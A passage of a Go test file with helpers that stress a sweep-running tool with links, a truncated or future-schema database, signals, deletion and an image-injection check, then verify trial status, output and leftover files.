	copyFile(t, e.data, filepath.Join(e.dir, "in.parquet"))
	if err := os.Link(filepath.Join(e.dir, "in.parquet"), filepath.Join(e.dir, "link.parquet")); err != nil {
		t.Fatal(err)
	}
}

// link makes a symbolic link at to pointing at from.
func link(from, to string) func(*testing.T, *hostileEnv) {
	return func(t *testing.T, e *hostileEnv) {
		if err := os.Symlink(e.expand(from), e.expand(to)); err != nil {
			t.Fatal(err)
		}
	}
}

// truncatedDB writes {dir}/cut.db: the fixture database cut in half.
func truncatedDB(t *testing.T, e *hostileEnv) {
	b, err := os.ReadFile(filepath.Join(e.fix, "fixture.db"))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(e.dir, "cut.db"), b[:len(b)/2], 0o644)
}

// newerSchema marks {db} as written by a future build.
func newerSchema(t *testing.T, e *hostileEnv) {
	db, err := sql.Open("sqlite3", e.db)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec("UPDATE schema_version SET version = 99"); err != nil {
		t.Fatal(err)
	}
}

// waitDoneTrials waits until the database at path has n done trials.
func waitDoneTrials(t *testing.T, path string, n int, p *os.Process) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Minute)
	for countDone(path) < n {
		if time.Now().After(deadline) {
			p.Kill()
			t.Fatalf("fewer than %d trials done after 2 minutes", n)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func signalAfterOneTrial(sig syscall.Signal) func(*testing.T, *hostileEnv, *os.Process) {
	return func(t *testing.T, e *hostileEnv, p *os.Process) {
		waitDoneTrials(t, e.db, 1, p)
		p.Signal(sig)
	}
}

func deleteDBAfterOneTrial(t *testing.T, e *hostileEnv, p *os.Process) {
	waitDoneTrials(t, e.db, 1, p)
	if err := os.Remove(e.db); err != nil {
		t.Fatal(err)
	}
}

// trialsAre checks that every trial of {db} has status, its error holding
// msg.
func trialsAre(status, msg string) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, e *hostileEnv, _, _ string) {
		code, out, stderr := sweepCmd(t, "query", "--db", e.db, "--format", "csv", "SELECT status, coalesce(error, '') FROM trials")
		if code != 0 {
			t.Fatal(stderr)
		}
		for _, l := range strings.Split(strings.TrimSpace(out), "\n")[1:] {
			if !strings.HasPrefix(l, status+",") || !strings.Contains(l, msg) {
				t.Errorf("trial %q, want %s with %q in its error", l, status, msg)
			}
		}
	}
}

// outputHas checks that stdout or stderr holds each word.
// imageIsData checks that the printed Job carries the image as one string
// and has no key the image tried to inject.
func imageIsData(image string) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, _ *hostileEnv, stdout, _ string) {
		var job struct {
			Spec struct {
				Template struct {
					Spec struct {
						Containers []map[string]any `yaml:"containers"`
					} `yaml:"spec"`
				} `yaml:"template"`
			} `yaml:"spec"`
		}
		if err := yaml.Unmarshal([]byte(stdout), &job); err != nil {
			t.Fatalf("the Job does not decode: %v", err)
		}
		c := job.Spec.Template.Spec.Containers
		if len(c) != 1 || c[0]["image"] != image || c[0]["command"] != nil {
			t.Errorf("containers %v: want the image as data and no command", c)
		}
	}
}

func outputHas(words ...string) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, _ *hostileEnv, stdout, stderr string) {
		for _, w := range words {
			if !strings.Contains(stdout+stderr, w) {
				t.Errorf("the output does not say %q", w)
			}
		}
	}
}

// sameFile checks that the file at a still has b's bytes.
func sameFile(a, b string) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, e *hostileEnv, _, _ string) {
		x, err1 := os.ReadFile(e.expand(a))
		y, err2 := os.ReadFile(e.expand(b))
		if err1 != nil || err2 != nil || !bytes.Equal(x, y) {
			t.Errorf("%s changed (%v, %v)", a, err1, err2)
		}
	}
}

func noFile(path string) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, e *hostileEnv, _, _ string) {
		if _, err := os.Stat(e.expand(path)); err == nil {
			t.Errorf("%s was created", e.expand(path))
		}
	}
}

// noTempFiles checks that predict left only its output in {dir}.
func noTempFiles(t *testing.T, e *hostileEnv, _, _ string) {
	left, _ := filepath.Glob(filepath.Join(e.dir, ".*.tmp"))
	if len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
	if _, err := os.Stat(filepath.Join(e.dir, "scores.parquet")); err != nil {
		t.Errorf("no output: %v", err)
	}
}

func fastest(d time.Duration) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, e *hostileEnv, _, _ string) {
		if e.elapsed > d {
			t.Errorf("took %s, want under %s", e.elapsed, d)
		}
	}
}

func trialCount(path string, n int) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, e *hostileEnv, _, _ string) {
		if got := len(trialStatuses(t, e.expand(path))); got != n {
			t.Errorf("%s holds %d trials, want %d", e.expand(path), got, n)
		}
	}
}

func noneRunning(path string) func(*testing.T, *hostileEnv, string, string) {
	return func(t *testing.T, e *hostileEnv, _, _ string) {
		for k, s := range trialStatuses(t, e.expand(path)) {
			if s == "running" {
				t.Errorf("trial %s left running", k)
			}
		}
	}
}

// resumeFinishes resumes the interrupted sweep: every trial ends done,
// each recorded once.
func resumeFinishes(t *testing.T, e *hostileEnv, stdout, stderr string) {
	noneRunning("{db}")(t, e, stdout, stderr)
	if code, _, msg := sweepCmd(t, "resume", "killme", "--db", e.db, "--workers", "2"); code != 0 {
		t.Fatalf("resume: %s", msg)
	}
	st := trialStatuses(t, e.db)
	for k, s := range st {
		if s != "done" {
			t.Errorf("after resume, trial %s is %s", k, s)
		}
	}
	if len(st) != 6 {
		t.Errorf("%d trials after resume, want 6", len(st))
	}
}
